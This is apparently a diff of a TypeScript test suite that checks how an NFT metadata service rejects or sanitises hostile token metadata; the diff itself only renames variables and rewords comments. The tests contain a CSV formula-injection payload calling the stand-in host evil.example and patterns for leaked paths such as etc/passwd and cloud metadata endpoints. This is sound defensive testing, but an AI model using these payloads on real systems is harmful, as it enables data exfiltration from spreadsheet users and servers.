@@ -32,13 +32,13 @@ const read = async (): Promise<(HostileToken & Data)[]> => {
   const { body, text } = await call(`/v1/demo/nft/${collection}/metadata/?page-size=1000`);
   const { data } = body as { readonly data: { readonly items: readonly { readonly nft_data: Data }[] } | null };
   if (data === null) throw new Error(text);
-  return data.items.map(({ nft_data: own }) => ({ ...(hostileTokens[Number(own.token_id) - 1] as HostileToken), ...own }));
+  return data.items.map(({ nft_data: data }) => ({ ...(hostileTokens[Number(data.token_id) - 1] as HostileToken), ...data }));
 };
 const tokens = await read();
-const of = (kind: string) => tokens.find((token) => token.kind === kind);
+const tokenOf = (kind: string) => tokens.find((token) => token.kind === kind);
 
-/** Tokens without a document, each with a pattern that the stated reason matches. */
-const refused: readonly (readonly [kind: string, reason: RegExp])[] = [
+/** Tokens whose document is rejected, each with a pattern of the reported reason. */
+const rejected: readonly (readonly [kind: string, reason: RegExp])[] = [
   ["huge", /too large/],
   ["slow", /within 3000 ms/],
   ["redirect-to-loopback", /http/],
@@ -67,7 +67,7 @@ const refused: readonly (readonly [kind: string, reason: RegExp])[] = [
   ["no-text", /./],
 ];
 
-/** Tokens whose document is served without its harmful parts. */
+/** Tokens whose document is served without its harmful parts, each with a pattern of the reported reason. */
 const sanitized: readonly (readonly [kind: string, reason: RegExp])[] = [
   ["many-attributes", /attributes/],
   ["script-in-picture", /image/],
@@ -76,28 +76,28 @@ const sanitized: readonly (readonly [kind: string, reason: RegExp])[] = [
 ];
 
 describe("tokens with hostile metadata", () => {
-  it("are all listed, each with a document or a reason for its refusal", () => {
+  it("are all listed, each with a document or the reason why it was rejected", () => {
     expect(tokens.map(({ token_id: id }) => Number(id))).toEqual(hostileTokens.map((_, index) => index + 1));
     expect(tokens.filter((token) => token.external_data === null && token.metadata_refusal === null)).toEqual([]);
   });
 
-  it.each(refused)("refuses %s and states the reason", (kind, reason) => {
-    const token = of(kind);
+  it.each(rejected)("are served without a document and with the reason: %s", (kind, reason) => {
+    const token = tokenOf(kind);
     expect(token?.external_data, token?.metadata_refusal ?? "").toBeNull();
     expect(token?.asset_cached).toBe(false);
     expect(token?.metadata_refusal).toMatch(reason);
-    // No local paths or addresses.
+    // The reason must not contain local paths or addresses.
     expect(token?.metadata_refusal).not.toMatch(/node_modules|\.ts\b|private\.json|latest\/meta-data|etc\/passwd/);
   });
 
-  it.each(sanitized)("serves %s without its harmful parts and names them", (kind, reason) => {
-    const token = of(kind);
+  it.each(sanitized)("are served without harmful parts, which the reason names: %s", (kind, reason) => {
+    const token = tokenOf(kind);
     expect(token?.external_data).not.toBeNull();
     expect(token?.metadata_refusal).toMatch(reason);
     expect(JSON.stringify(token?.external_data)).not.toMatch(/<script|javascript:|onload|foreignObject|text\/html/i);
   });
 
-  it("serves the harmless tokens between them", () => {
+  it("do not affect the harmless tokens between them", () => {
     const harmless = tokens.filter(({ kind }) => kind === "harmless");
     expect(harmless.length).toBeGreaterThan(10);
     harmless.forEach((token, index) => {
@@ -112,15 +112,15 @@ describe("tokens with hostile metadata", () => {
       const texts = [data?.name, data?.description, ...(data?.attributes ?? []).flatMap(({ trait_type, value }) => [trait_type, value])];
       for (const text of texts) expect(text ?? "", kind).not.toMatch(/(?![\n\t])\p{Cc}|\p{Bidi_Control}|\p{Surrogate}/u);
     }
-    const names = of("names-of-other-types")?.external_data;
+    const names = tokenOf("names-of-other-types")?.external_data;
     expect([names?.image, names?.external_url, names?.animation_url]).toEqual([null, null, null]);
-    const absurd = of("absurd-attributes")?.external_data?.attributes;
+    const absurd = tokenOf("absurd-attributes")?.external_data?.attributes;
     expect(absurd).toContainEqual({ trait_type: "__proto__", value: "constructor" });
     expect(absurd).toContainEqual({ trait_type: "Number", value: "123456789012345678901234567890" });
   });
 
   it("are escaped in CSV, so that spreadsheets do not evaluate formulas", async () => {
-    expect(of("formula")?.external_data?.name).toBe('=HYPERLINK("https://evil.example/?"&A1,"Click")');
+    expect(tokenOf("formula")?.external_data?.name).toBe('=HYPERLINK("https://evil.example/?"&A1,"Click")');
     const { text } = await call(`/v1/demo/nft/${collection}/metadata/?page-size=1000&format=csv`);
     expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`);
     expect(
@@ -138,12 +138,12 @@ describe("tokens with hostile metadata", () => {
     const database = createDatabase({ url: app.databaseUrl, poolSize: 1, statementTimeoutMilliseconds: 0, applicationName: "ashlar-test" });
     try {
       const collections = await readMetadataStatus(database, 31337);
-      const own = collections.find(({ token }) => token === collection);
+      const status = collections.find(({ token }) => token === collection);
       const without = tokens.filter(({ external_data: data }) => data === null);
-      expect([own?.waiting, own?.read, own?.refused]).toEqual([0, tokens.length - without.length, without.length]);
+      expect([status?.waiting, status?.read, status?.refused]).toEqual([0, tokens.length - without.length, without.length]);
       const counts = new Map<string, number>();
       for (const { metadata_refusal: reason } of without) counts.set(reason ?? "", (counts.get(reason ?? "") ?? 0) + 1);
-      expect(new Map(own?.refusals.map(({ reason, tokens: count }) => [reason, count]))).toEqual(
+      expect(new Map(status?.refusals.map(({ reason, tokens: count }) => [reason, count]))).toEqual(
         new Map([...counts].map(([reason, count]) => [reason.slice(0, 200), count])),
       );
     } finally {
